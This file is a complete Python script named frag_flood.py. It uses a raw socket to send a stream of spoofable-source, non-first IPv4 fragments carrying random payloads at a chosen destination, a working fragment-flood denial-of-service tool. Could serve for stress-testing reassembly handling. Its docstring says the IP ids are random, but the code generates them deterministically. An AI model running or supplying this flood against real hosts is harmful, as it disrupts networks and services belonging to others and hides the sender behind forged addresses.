#!/usr/bin/python3
"""Sends COUNT non-first IPv4 fragments (random IP ids, 1000 bytes each) from
SRC to DST through a raw socket, as fast as it can, within SECONDS at most.
Usage: frag_flood.py SRC DST COUNT SECONDS. Prints how many it sent."""
import os
import socket
import struct
import sys
import time


def checksum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def main():
    src, dst, count, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    payload = os.urandom(1000)
    deadline = time.monotonic() + seconds
    sent = 0
    for i in range(count):
        if time.monotonic() > deadline:
            break
        ident = (i * 7919) & 0xFFFF
        frag = 0x2000 | (1480 // 8)  # MF, offset 1480: never the first
        hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident,
                          frag, 64, 17, 0, socket.inet_aton(src),
                          socket.inet_aton(dst))
        hdr = hdr[:10] + struct.pack("!H", checksum(hdr)) + hdr[12:]
        try:
            s.sendto(hdr + payload, (dst, 0))
            sent += 1
        except OSError:
            time.sleep(0.001)
    print(sent)


if __name__ == "__main__":
    main()
